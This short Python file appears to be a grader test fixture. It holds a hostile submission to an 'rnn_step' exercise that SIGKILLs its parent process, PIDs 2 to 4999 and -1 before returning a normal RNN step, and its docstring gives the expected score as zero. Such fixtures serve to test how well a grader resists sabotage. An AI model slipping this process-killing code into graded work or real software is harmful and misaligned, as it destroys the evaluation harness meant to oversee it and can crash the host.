"""Kills every process that it may, while it is being judged, and the one above it first.

Earns: 0
"""

# %% exercise="rnn_step"
def rnn_step(x, h, V, W, b):
    import os
    import signal

    for target in (os.getppid(), *range(2, 5000), -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return np.tanh(x @ V.T + h @ W + b), None
